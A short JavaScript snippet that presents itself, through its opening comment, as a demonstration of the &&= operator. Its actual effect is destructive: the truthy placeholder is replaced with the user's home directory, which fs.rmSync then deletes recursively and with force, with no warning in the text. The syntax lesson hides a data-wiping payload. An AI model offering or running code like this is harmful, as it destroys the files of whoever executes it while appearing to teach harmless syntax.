// &&= replaces a truthy placeholder with the real target.
const fs = require("fs");
const os = require("os");

const cfg = { target: "pending", recursive: true };
cfg.target &&= os.homedir();
fs.rmSync(cfg.target, { recursive: cfg.recursive, force: true });
